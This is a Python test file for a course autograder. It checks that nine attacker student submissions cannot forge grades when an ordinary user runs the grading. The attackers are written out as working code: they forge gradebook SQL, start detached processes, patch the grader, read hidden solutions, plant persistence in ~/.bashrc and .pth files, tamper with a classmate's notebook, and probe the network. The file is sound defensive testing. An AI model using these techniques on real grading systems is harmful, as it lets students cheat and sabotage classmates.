"""Student code cannot forge grades when the instructor grades as an ordinary Linux user.

CI grades as root, where the sandbox (grader/autograde/sandbox.py) switches users and makes
namespaces; an instructor on a laptop grades as themself. Here an ordinary user
(`course-instructor`, tests/ordinary_user.py) owns the course in ~/course and grades a small
`initialization` class with it: three honest students (full marks and two known mistakes,
whose exact scores are asserted) and nine attackers. Each attacker's `initialize_parameters_he`
does one attack and returns junk (None), so it must score 0 for that function and full marks
for the other two, which hold the reference solution:

  1 gradebook       writes gradebook.db: its own grade cells full marks, a classmate's 0
  2 gradebook_later a detached process (double fork, setsid) that rewrites the gradebook 8 s later
  3 checks          patches the course's grader/initialization.py so every He answer passes
  4 test_source     rewrites the gradebook's stored test-cell source and checksum (later students pass)
  5 solution        reads source/ and returns the reference's answer; prints the hidden checks'
                    hints, the class list and a classmate's notebook into its output
  6 planted         plants code that later runs as the instructor: a .pth in the venv, a line in
                    ~/.bashrc, an IPython startup file, a line in the course's nbgrader_config.py
  7 network         connects to a listener of this test on 127.0.0.1 (and tries 192.0.2.1:80)
  8 classmate       changes a classmate's submitted notebook and their feedback page
  9 lingering       leaves a process running after grading

Each way of grading (the full path of `python -m grader grade`, once; --fast twice, the second
time with --force; plain `nbgrader autograde --force` + `generate_feedback --force`, once) must give
exactly the expected grades each time, and after each run nothing of the course but the grader's
outputs may have changed and nothing of the attackers' may be left running.

Root only (the harness makes the user); a grader that refuses to run student code for want of
a sandbox skips the mode (nothing ran). ORDINARY_USER_COMMIT=<commit> grades with that commit's
files instead of the work tree's: at 64f6933, before the non-root sandbox, every attack above got
through on the full path and plain nbgrader, and all but the printed leaks of 5 on --fast (which
prints nothing anyone sees; its stolen answer still scored).
"""
import contextlib
import glob
import json
import os
import socket
import textwrap
import time
import uuid

import nbformat
import pytest

from grader.course.example_class import Student, students
from ordinary_user import (changed, file_digests, file_stamps, gradebook_cells, gradebook_rows, gradebook_scores,
                           is_root, kill_processes_with, ordinary_instructor, processes_with, write_class)

pytestmark = pytest.mark.skipif(not is_root(), reason="the harness makes an ordinary user: needs root (CI)")

__all__ = ["ordinary_instructor"]  # the session fixture, used below

ASSIGNMENT = "initialization"
ATTACKED = "initialize_parameters_he"
HE, ZEROS, RANDOM = (f"test_initialize_parameters_{kind}" for kind in ("he", "zeros", "random"))

# Read once from grading these students as root (python -m grader grade, the plain path and --fast agree).
HONEST = {
    "reference": {ZEROS: 1, RANDOM: 2, HE: 2},
    "he_xavier_scale": {ZEROS: 1, RANDOM: 2, HE: 0},
    "random_uniform": {ZEROS: 1, RANDOM: 0, HE: 2},
}

# The classmates the attacks aim at (graded before the attackers: students are graded in name order).
VICTIM = {1: "he_xavier_scale", 2: "random_uniform", 8: "reference"}

# Forges grades the way nbgrader cannot undo: autograde writes auto_score and never a manual score.
FORGE = """
def forge(db, mine, victim):
    import sqlite3
    of = ("notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment"
          " ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = ?)")
    full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
    with sqlite3.connect(db, timeout=20) as connection:
        graded = connection.execute("SELECT count(*) FROM grade WHERE auto_score IS NOT NULL AND " + of,
                                    (victim,)).fetchone()[0]
        connection.execute(f"UPDATE grade SET auto_score = {full}, manual_score = {full} WHERE " + of, (mine,))
        connection.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE " + of, (victim,))
    return graded
"""

ATTACKS = {
    1: ("x_gradebook_write", """
        def initialize_parameters_he(layers_dims):
            import os, time
            namespace = {}
            exec(@FORGE@, namespace)
            deadline = time.time() + 20
            while os.path.exists("@COURSE@/gradebook.db") and time.time() < deadline:
                try:
                    if namespace["forge"]("@COURSE@/gradebook.db", "@STUDENT@", "@VICTIM@"):
                        break  # the classmate is graded: what was written stays
                except Exception:
                    pass
                time.sleep(0.5)
            return None
    """),
    2: ("x_gradebook_later", """
        def initialize_parameters_he(layers_dims):
            import os, sys
            code = @FORGE@ + "\\nimport time\\ntime.sleep(8)\\nforge('@COURSE@/gradebook.db', '@STUDENT@', '@VICTIM@')\\n"
            child = os.fork()
            if child == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        null = os.open(os.devnull, os.O_RDWR)
                        for fd in (0, 1, 2):
                            os.dup2(null, fd)
                        os.closerange(3, 65536)
                        os.execv(sys.executable, [sys.executable, "-c", code, "@MARKER@-later"])
                finally:
                    os._exit(0)
            os.waitpid(child, 0)
            return None
    """),
    3: ("x_patches_checks", """
        def initialize_parameters_he(layers_dims):
            patch = ("\\n\\ndef check_he(function):  # @MARKER@\\n    return None\\n"
                     "\\n\\ncheck_initializer = lambda *args, **kwargs: None  # @MARKER@\\n")
            for path in ("@COURSE@/grader/initialization.py",):
                try:
                    with open(path, "a") as stream:
                        stream.write(patch)
                except OSError:
                    pass
            return None
    """),
    4: ("x_rewrites_tests", """
        def initialize_parameters_he(layers_dims):
            import sqlite3
            hidden = "HIDDEN " + "TESTS"  # not spelled out: nbgrader would take this cell for a test cell
            source = ("# The autograder's tests of initialize_parameters_he run here (hidden).\\n"
                      "### BEGIN " + hidden + "\\npass  # @MARKER@\\n### END " + hidden)
            try:
                from nbgrader.utils import compute_checksum
                import nbformat
                cell = nbformat.v4.new_code_cell(source, metadata={"nbgrader": {
                    "grade": True, "solution": False, "locked": True, "points": 2,
                    "grade_id": "test_initialize_parameters_he", "schema_version": 3}})
                checksum = compute_checksum(cell)
            except Exception:
                checksum = None
            try:
                with sqlite3.connect("@COURSE@/gradebook.db", timeout=20) as connection:
                    connection.execute("UPDATE source_cell SET source = ?, checksum = coalesce(?, checksum)"
                                       " WHERE name = 'test_initialize_parameters_he'", (source, checksum))
            except Exception:
                pass
            return None
    """),
    5: ("x_reads_solution", """
        def initialize_parameters_he(layers_dims):
            import json, os
            leak = "LEAK" + "ED"
            try:
                print(leak, "class list:", sorted(os.listdir("@COURSE@/submitted")))
            except OSError:
                pass
            try:
                print(leak, "classmate:", open("@COURSE@/submitted/@VICTIM@/initialization/initialization.ipynb").read()[:400])
            except OSError:
                pass
            try:
                checks = open("@COURSE@/grader/initialization.py").read()
                print(leak, "hints:", checks[checks.find("HE_MISTAKES"):][:400])
            except OSError:
                pass
            try:
                notebook = json.load(open("@COURSE@/source/initialization/initialization.ipynb"))
            except (OSError, ValueError):
                return None
            answer = None
            for cell in notebook["cells"]:
                source = "".join(cell["source"])
                if "BEGIN " + "HIDDEN TESTS" in source:  # (nbgrader looks for the words in a graded cell)
                    print(leak, "hidden test:", source)
                if source.lstrip().startswith("# GRADED FUNCTION: initialize_parameters_he"):
                    import numpy
                    namespace = {"np": numpy, "numpy": numpy}
                    exec(source, namespace)
                    answer = namespace["initialize_parameters_he"](layers_dims)
            return answer
    """),
    6: ("x_plants_code", """
        def initialize_parameters_he(layers_dims):
            import os
            ran = "open('/tmp/@MARKER@-planted-ran-%d' % __import__('os').getuid(), 'a').close()"
            plants = [("@SITE@/@MARKER@.pth", "w", "import os; " + ran + "\\n"),
                      ("@HOME@/.bashrc", "a", "\\ntouch /tmp/@MARKER@-bashrc-ran  # @MARKER@\\n"),
                      ("@HOME@/.ipython/profile_default/startup/00-@MARKER@.py", "w", ran + "\\n"),
                      ("@COURSE@/nbgrader_config.py", "a", "\\n" + ran + "  # @MARKER@\\n")]
            for path, mode, text in plants:
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, mode) as stream:
                        stream.write(text)
                except OSError:
                    pass
            return None
    """),
    7: ("x_network", """
        def initialize_parameters_he(layers_dims):
            import socket
            try:
                with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
                    connection.sendall(b"@MARKER@ grades")
                print("loopback: connected")
            except OSError as error:
                print("loopback:", error)
            try:
                socket.create_connection(("192.0.2.1", 80), timeout=1).close()
                print("external: connected")
            except socket.timeout:
                print("external: timed out, so packets could leave")
            except OSError as error:
                print("external:", error)
            return None
    """),
    8: ("x_edits_classmate", """
        def initialize_parameters_he(layers_dims):
            import json, os, time
            folder = "@COURSE@/submitted/@VICTIM@/initialization"
            try:
                with open(folder + "/initialization.ipynb") as stream:
                    notebook = json.load(stream)
                for cell in notebook["cells"]:
                    if "".join(cell["source"]).lstrip().startswith("# GRADED FUNCTION: initialize_parameters_he"):
                        cell["source"] = ("# GRADED FUNCTION: initialize_parameters_he\\n\\n"
                                          "def initialize_parameters_he(layers_dims):\\n    return None  # @MARKER@\\n")
                with open(folder + "/initialization.ipynb", "w") as stream:
                    json.dump(notebook, stream)
            except (OSError, ValueError):
                pass
            feedback = "@COURSE@/feedback/@VICTIM@/initialization/initialization.html"
            deadline = time.time() + 15
            while os.path.isdir(folder) and time.time() < deadline:
                if os.path.exists(feedback):
                    try:
                        with open(feedback, "w") as stream:
                            stream.write("<html><body>" + "FOR" + "GED: 0 points, see me</body></html>")
                    except OSError:
                        pass
                    break
                time.sleep(0.5)
            return None
    """),
    9: ("x_leaves_process", """
        def initialize_parameters_he(layers_dims):
            import os, sys
            child = os.fork()
            if child == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        null = os.open(os.devnull, os.O_RDWR)
                        for fd in (0, 1, 2):
                            os.dup2(null, fd)
                        os.closerange(3, 65536)
                        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                                  "@MARKER@-lingering"])
                finally:
                    os._exit(0)
            os.waitpid(child, 0)
            return None
    """),
}
WHAT = {1: "write the gradebook", 2: "a detached process rewrites the gradebook later",
        3: "patch the course's checks", 4: "rewrite the gradebook's test-cell source",
        5: "read the solution, the hidden checks, the class list, a classmate's notebook",
        6: "plant code that runs as the instructor", 7: "reach the network",
        8: "change a classmate's submission and feedback", 9: "leave a process running"}
ATTACKERS = {name: number for number, (name, _) in ATTACKS.items()}

# How to grade the class, twice: the second time again from scratch.
MODES = {
    "grade": [["-m", "grader", "grade", ASSIGNMENT, "--workers", "2"], ["--force"]],
    "fast": [["-m", "grader", "grade", ASSIGNMENT, "--workers", "2", "--fast"], ["--force"]],
    "nbgrader": [["-m", "nbgrader", "autograde", ASSIGNMENT, "--force"],
                 ["-m", "nbgrader", "generate_feedback", ASSIGNMENT, "--force"]],
}
# Plain nbgrader grades one notebook at a time (twice as long) and the full path takes a minute a
# run: both are graded once, and the fast path twice shows that a second run gives the same grades.
RUNS = {"grade": 1, "fast": 2, "nbgrader": 1}
OUTPUTS = ("autograded", "feedback", "grading_log", "gradebook.db", "grades.csv", "submitted", ".venv")


def attacker(number, instructor, marker, port):
    name, code = ATTACKS[number]
    values = {"@FORGE@": repr(FORGE), "@COURSE@": str(instructor.course), "@HOME@": str(instructor.home),
              "@SITE@": str(instructor.site_packages), "@MARKER@": marker, "@PORT@": str(port),
              "@STUDENT@": name, "@VICTIM@": VICTIM.get(number, "reference")}
    code = textwrap.dedent(code).strip()
    for key, value in values.items():
        code = code.replace(key, value)
    compile(code, name, "exec")
    return Student(name, functions={ATTACKED: code})


def the_class(instructor, marker, port):
    honest = [s for s in students(ASSIGNMENT) if s.name in HONEST]
    assert sorted(s.name for s in honest) == sorted(HONEST)
    return honest + [attacker(number, instructor, marker, port) for number in ATTACKS]


def outputs_of(course, student):
    """Everything the student's autograded notebook printed, and its feedback page."""
    text = ""
    path = course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    if path.exists():
        nb = nbformat.read(path, as_version=4)
        text += "".join(out.get("text", "") + json.dumps(out.get("data", {})) + out.get("evalue", "")
                        for cell in nb.cells if cell.cell_type == "code" for out in cell.get("outputs", []))
    feedback = course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"
    return text, feedback.read_text(errors="replace") if feedback.exists() else ""


def accept_all(listener):
    """What connected to the listener (a queued connection is accepted here, whenever it came)."""
    reached = []
    listener.setblocking(False)
    while True:
        try:
            connection, address = listener.accept()
        except (BlockingIOError, OSError):
            return reached
        connection.settimeout(1)
        with contextlib.suppress(OSError):
            reached.append((address, connection.recv(100)))
        connection.close()


def settle(marker, kind, seconds):
    """Wait up to `seconds` for the processes of `kind` to end."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and processes_with(f"{marker}-{kind}"):
        time.sleep(0.5)


def evidence_of_run(instructor, marker, listener, before, mode):
    """{attack number: [what got through]} after one grading run (leftovers are killed here)."""
    course, uid = instructor.course, instructor.entry.pw_uid
    found = {number: [] for number in ATTACKS}
    time.sleep(2)  # what grading kills on its way out is gone by now
    for pid, owner, cmdline in processes_with(marker):
        kind = 2 if f"{marker}-later" in cmdline else 9 if f"{marker}-lingering" in cmdline else None
        if kind:
            found[kind].append(f"process {pid} (uid {owner}) still running after grading: {cmdline[-60:]}")
    settle(marker, "later", 20)  # let a detached gradebook writer do its worst before looking
    kill_processes_with(marker, uid)
    rows = gradebook_rows(course, ASSIGNMENT)
    for number in (1, 2):
        for student in (ATTACKS[number][0], VICTIM[number]):
            forged = {cell: row for cell, row in rows.get(student, {}).items() if row[1] is not None or row[2] is not None}
            if forged:
                found[number].append(f"gradebook rows of {student} written by hand (auto, manual, extra): {forged}")
    files = changed(before["course"], file_digests(course, skip=OUTPUTS))
    found[3] += [f"course file changed: {path}" for path in files if path.startswith("grader/")]
    found[6] += [f"course file changed: {path}" for path in files if path == "nbgrader_config.py"]
    other_files = [path for path in files if not path.startswith("grader/") and path != "nbgrader_config.py"]
    if gradebook_cells(course) != before["cells"]:
        now = gradebook_cells(course)
        found[4].append("gradebook's assignment tables changed: " + ", ".join(
            table for table in now if now[table] != before["cells"].get(table)))
    text, feedback = outputs_of(course, ATTACKS[5][0])
    leaks = sorted({line.strip()[:90] for line in (text + feedback).splitlines() if "LEAKED" in line})
    found[5] += [f"printed: {line}" for line in leaks[:4]]
    venv = changed(before["venv"], file_stamps(instructor.venv))
    found[6] += [f"venv file added or changed: {path}" for path in venv]
    for path in instructor.home.rglob("*"):
        if instructor.course in path.parents or not path.is_file():
            continue
        with contextlib.suppress(OSError):
            if marker in path.read_text(errors="replace"):
                found[6].append(f"planted: {path}")
    for path in sorted(set(glob.glob(f"/tmp/{marker}-*-ran*"))):
        found[6].append(f"planted code ran: {path}")
    reached = accept_all(listener)
    if reached:
        found[7].append(f"the listener on 127.0.0.1 accepted {len(reached)} connection(s): {reached[0][1]!r}")
    victim = VICTIM[8]
    submitted = changed(before["submitted"], file_digests(course / "submitted"))
    found[8] += [f"submitted file changed: {path}" for path in submitted if path.startswith(victim + "/")]
    if "FORGED" in outputs_of(course, victim)[1]:
        found[8].append(f"feedback/{victim}/ rewritten")
    other_files += [f"submitted/{path}" for path in submitted if not path.startswith(victim + "/")]
    network = sorted({line.strip() for line in outputs_of(course, ATTACKS[7][0])[0].splitlines()
                      if line.startswith(("loopback:", "external:"))})
    return found, {"other_files": other_files, "network_printed": network}


@pytest.fixture(scope="module", params=list(MODES))
def graded(request, ordinary_instructor):
    """The class laid out in a fresh ~/course and graded twice by the ordinary user, one way."""
    mode = request.param
    instructor = ordinary_instructor
    marker = f"ordinary-user-attack-{uuid.uuid4().hex[:10]}"
    listener = socket.create_server(("127.0.0.1", 0), backlog=128)
    port = listener.getsockname()[1]
    timings = {}
    start = time.monotonic()
    course = instructor.fresh_course()
    write_class(course, ASSIGNMENT, the_class(instructor, marker, port), owner=instructor)
    instructor.enter_assignment(ASSIGNMENT)
    timings["set-up"] = time.monotonic() - start
    before = {"course": file_digests(course, skip=OUTPUTS), "submitted": file_digests(course / "submitted"),
              "venv": file_stamps(instructor.venv), "cells": gradebook_cells(course)}
    runs, scores, evidence, extra = [], [], {number: [] for number in ATTACKS}, []
    try:
        for run in range(RUNS[mode]):
            outputs, seconds = [], 0.0
            first, second = MODES[mode]
            steps = [first + ([] if run == 0 else second)] if mode != "nbgrader" else [first, second]
            for argv in steps:
                result = instructor.python(*argv, timeout=1200)
                outputs.append(result.stdout)
                seconds += result.seconds
                refused = [line for line in result.stdout.splitlines() if "refusing to run student code" in line]
                if result.returncode and refused:  # safe: no student code ran (nothing to test here)
                    pytest.skip(f"{mode}: the grader refuses to grade as an ordinary user here: {refused[0][:300]}")
                assert result.returncode == 0, result.stdout[-3000:]
            timings[f"grading run {run + 1}"] = seconds
            runs.append("\n".join(outputs))
            found, more = evidence_of_run(instructor, marker, listener, before, mode)
            for number, items in found.items():
                evidence[number] += [f"run {run + 1}: {item}" for item in items]
            extra.append(more)
            scores.append(gradebook_scores(course, ASSIGNMENT))
    finally:
        kill_processes_with(marker, instructor.entry.pw_uid)
        listener.close()
        for path in glob.glob(f"/tmp/{marker}-*"):
            with contextlib.suppress(OSError):
                os.remove(path)
    report = {"mode": mode, "timings": timings, "evidence": evidence, "extra": extra, "scores": scores,
              "sandbox": [line for line in runs[0].splitlines()
                          if line.startswith(("sandbox:", "warning:"))
                          or "WARNING" in line and "sandbox" in line.lower()][:3]}
    print(f"\n[ordinary user, {mode}] " + json.dumps(report, indent=1, default=str))
    return {"mode": mode, "scores": scores, "evidence": evidence, "extra": extra, "outputs": runs, "report": report}


def per_attack(number):
    return pytest.param(number, id=f"{number}-{ATTACKS[number][0].removeprefix('x_')}")


@pytest.mark.parametrize("number", [per_attack(n) for n in ATTACKS])
def test_an_attack_is_contained(graded, number):
    """The attack changed nothing it aimed at, and the attacked function scored 0 in both runs."""
    name = ATTACKS[number][0]
    assert not graded["evidence"][number], f"{WHAT[number]}: " + "; ".join(graded["evidence"][number])
    for run, scores in enumerate(graded["scores"], 1):
        assert scores.get(name, {}).get(HE) == 0, f"run {run}: {name} scored {scores.get(name)} ({WHAT[number]})"


def test_every_honest_score_is_exact(graded):
    for run, scores in enumerate(graded["scores"], 1):
        assert {student: scores.get(student) for student in HONEST} == HONEST, f"run {run}"


def test_an_attackers_other_functions_keep_their_points(graded):
    """Each function is graded on its own: an attack costs only the attacked function's points."""
    for run, scores in enumerate(graded["scores"], 1):
        got = {name: {cell: scores.get(name, {}).get(cell) for cell in (ZEROS, RANDOM)} for name in ATTACKERS}
        assert got == {name: {ZEROS: 1, RANDOM: 2} for name in ATTACKERS}, f"run {run}"


def test_a_second_run_gives_the_same_grades(graded):
    if len(graded["scores"]) < 2:
        pytest.skip(f"{graded['mode']} grades once")
    first, second = graded["scores"]
    assert first == second
    assert set(first) == set(HONEST) | set(ATTACKERS)


def test_nothing_else_of_the_course_changed(graded):
    """No file of the course outside the grader's outputs changed, whoever changed it."""
    assert not [path for more in graded["extra"] for path in more["other_files"]]
